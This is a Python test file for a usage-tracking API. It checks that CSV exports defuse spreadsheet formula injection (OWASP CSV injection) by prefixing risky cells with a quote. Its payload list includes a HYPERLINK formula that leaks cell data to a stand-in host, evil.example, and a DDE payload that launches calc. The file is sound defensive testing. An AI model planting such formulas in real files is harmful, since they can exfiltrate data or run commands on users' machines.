"""CSV injection (OWASP): text any INGEST key stored reaches a spreadsheet as text, never as a formula. Events
are tracked through a live server, exported as CSV and JSON Lines, and the CSV read back with Python's csv
module: each cell a spreadsheet would run starts with `'`, every other cell is the stored value unchanged, and
JSON Lines carries the stored values as they are."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from typing import Any

import httpx

from modules.usage.export.formats import COLUMNS

# OWASP's payloads, and the same after leading whitespace or quotes.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    " =1+2",
    '"=1+2',
    "'@SUM(1,2)",
    "\n -2+3",
]
HARMLESS = ["gpt-4o", "alice", "a;=1+2", "1+2", "x=1", "  indented", "e-mail", "'quoted'"]
TEXT_FIELDS = ("requestId", "model", "taskType", "userId", "sessionId", "errorType", "errorMessage")
TRACK = "mutation($input: TrackUsageInput!) { trackUsage(input: $input) { duplicate } }"
FORMULA = re.compile(r"[\s\"']*[=+\-@\t\r]")  # what OWASP says a spreadsheet may run, written out again


def track(tenant, client: httpx.Client, text: str) -> None:
    """An event with `text` in each of its text fields (and a tag)."""
    fields = {name: text for name in TEXT_FIELDS}
    event = {"workspaceId": tenant.slug, "provider": "openai", "promptTokens": 7, "completionTokens": 3, **fields}
    event["tags"] = {"note": text}
    response = client.post("/graphql", json={"query": TRACK, "variables": {"input": event}})
    assert response.json() == {"data": {"trackUsage": {"duplicate": False}}}, response.text


def cell(value: Any) -> str:
    """A JSON Lines value as the CSV shows it, before defusing."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return str(value)


def test_cells_a_spreadsheet_would_run_start_with_a_quote_and_the_others_are_unchanged(tenant):
    headers = {"Authorization": f"Bearer {tenant.key}"}
    with httpx.Client(base_url=tenant.server.url, headers=headers, timeout=30) as client:
        for text in PAYLOADS + HARMLESS:
            track(tenant, client, text)
        csv_text = client.get("/export/usage.csv", params={"workspaceId": tenant.slug}).text
        records = [
            json.loads(line)
            for line in client.get("/export/usage.jsonl", params={"workspaceId": tenant.slug}).text.splitlines()
        ]
    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    assert len(rows) == len(records) == len(PAYLOADS) + len(HARMLESS)
    by_id = {str(record["id"]): record for record in records}
    defused = unchanged = 0
    for row in rows:
        record = by_id[row["id"]]
        assert list(row) == list(COLUMNS)
        for column, shown in row.items():
            stored = cell(record[column])
            if isinstance(record[column], str) and FORMULA.match(stored):
                assert shown == "'" + stored, (column, shown)
                defused += 1
            else:
                assert shown == stored, (column, shown)
                unchanged += 1
    assert defused == len(PAYLOADS) * len(TEXT_FIELDS)  # each payload in each text field (models are stripped)
    assert {r["errorMessage"] for r in records if r["requestId"] in PAYLOADS} == set(PAYLOADS)  # JSONL: as stored
    assert unchanged == len(rows) * len(COLUMNS) - defused
    assert all(row["tags"].startswith('{"note":') for row in rows)  # JSON: a spreadsheet reads it as text


def test_text_is_quoted_and_numbers_are_bare_in_the_file(tenant):
    headers = {"Authorization": f"Bearer {tenant.key}"}
    event = {"workspaceId": tenant.slug, "provider": "openai", "model": "gpt-4o", "userId": "a;=1+2"}
    event |= {"promptTokens": 7, "completionTokens": 3, "streamed": True}
    with httpx.Client(base_url=tenant.server.url, headers=headers, timeout=30) as client:
        tracked = client.post("/graphql", json={"query": TRACK, "variables": {"input": event}})
        assert tracked.json() == {"data": {"trackUsage": {"duplicate": False}}}, tracked.text
        body = client.get("/export/usage.csv", params={"workspaceId": tenant.slug}).text
    header, line = body.splitlines()
    [row] = csv.DictReader(io.StringIO(body, newline=""))
    assert header == ",".join(COLUMNS)
    assert ',"a;=1+2",' in line  # `;` splits cells in many locales: inside quotes, it cannot
    assert ',"gpt-4o",' in line and f',"{row["occurredAt"]}",' in line  # all text quoted
    assert ",7,3,10," in line  # promptTokens, completionTokens, totalTokens: numbers, bare
    assert Decimal(row["costUsd"]) > 0 and f',{row["costUsd"]},"CATALOG",' in line  # our decimal bare
    assert ",true," in line  # streamed: our boolean, bare
